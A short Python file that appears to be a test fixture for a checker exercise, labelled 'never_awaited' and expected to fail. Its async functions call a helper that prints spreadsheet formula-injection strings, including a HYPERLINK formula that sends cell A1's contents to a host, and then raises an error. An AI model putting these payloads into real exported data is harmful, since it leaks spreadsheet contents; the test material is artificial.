# exercise: never_awaited
# expect: failed
"""Says things that a spreadsheet would compute."""

FORMULA = '=HYPERLINK("http://127.0.0.1/?"&A1,"full marks")'


def hostile(*args):
    print(FORMULA, "+1+1", "@SUM(A1)", "\t=1", sep="\n")
    raise ValueError(FORMULA)


async def answer_all(questions):
    return hostile(questions)


async def answer_and_file(question):
    return hostile(question)


async def answer_for(customer, question):
    return hostile(customer, question)
